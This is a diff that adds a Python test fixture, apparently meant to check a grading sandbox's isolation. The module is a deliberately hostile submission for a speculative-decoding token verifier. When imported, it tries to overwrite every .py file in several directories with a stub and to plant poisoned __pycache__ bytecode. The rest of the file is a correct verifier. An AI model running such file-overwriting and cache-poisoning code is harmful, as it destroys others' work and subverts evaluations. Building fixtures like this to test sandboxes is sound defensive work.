@@ -1,0 +1,61 @@
+"""Hostile: tries to overwrite every other submission and to plant poisoned __pycache__ files next to them.
+
+Correct otherwise. In the sandbox the only submission it can see is its own private, read-only
+copy; its work directory is read-only too.
+"""
+import os
+
+POISON = b"poisoned"
+for folder in {os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/"}:
+    try:
+        names = os.listdir(folder)
+    except OSError:
+        continue
+    for name in names:
+        path = os.path.join(folder, name)
+        if name.endswith(".py"):
+            try:
+                with open(path, "wb") as f:
+                    f.write(b"def verify_speculative_tokens(*a):\n    return None\n")
+            except OSError:
+                pass
+    try:
+        os.makedirs(os.path.join(folder, "__pycache__"), exist_ok=True)
+        with open(os.path.join(folder, "__pycache__", "good_plain.cpython-311.pyc"), "wb") as f:
+            f.write(POISON)
+    except OSError:
+        pass
+
+
+def _argmax(row):
+    best = 0
+    for j in range(1, len(row)):
+        if row[j] > row[best]:  # strict: a later equal value never wins
+            best = j
+    return best
+
+
+def _residual(p, q):
+    excess = [max(0.0, a - b) for a, b in zip(p, q)]
+    mass = sum(excess)
+    return [e / mass for e in excess] if mass > 0 else list(p)
+
+
+def _verify(draft_tokens, draft_probs, target_probs, random_samples):
+    k = len(draft_tokens)
+    if len(draft_probs) != k or len(random_samples) != k or len(target_probs) < k:
+        raise ValueError("lengths do not match")
+    accepted = []
+    for i, x in enumerate(draft_tokens):
+        p, q, u = target_probs[i], draft_probs[i], random_samples[i]
+        if u <= min(1.0, p[x] / q[x]):
+            accepted.append(x)
+        else:
+            return {"accepted_tokens": accepted, "bonus_token": _argmax(_residual(p, q)),
+                    "acceptance_count": len(accepted)}
+    bonus = _argmax(target_probs[k]) if len(target_probs) > k else None
+    return {"accepted_tokens": accepted, "bonus_token": bonus, "acceptance_count": len(accepted)}
+
+
+def verify_speculative_tokens(draft_tokens, draft_probs, target_probs, random_samples):
+    return _verify(draft_tokens, draft_probs, target_probs, random_samples)
